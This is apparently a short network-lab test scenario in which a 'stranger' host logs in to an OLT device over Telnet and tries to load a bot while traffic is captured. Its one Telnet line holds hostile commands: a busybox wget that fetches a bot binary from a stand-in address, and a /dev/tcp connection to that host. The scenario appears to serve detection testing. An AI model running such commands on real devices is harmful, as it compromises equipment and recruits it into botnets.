# SPDX-License-Identifier: Apache-2.0
# A stranger logs in to an OLT over Telnet and tries to load a bot.
start_management
add_host stranger
start_capture
start_olt
olt_round 1
telnet_session stranger "${address[olt-03]}" 'id' '/bin/busybox wget http://203.0.113.50/bot -O /tmp/bot' 'cat </dev/tcp/203.0.113.50/81'
olt_round 2
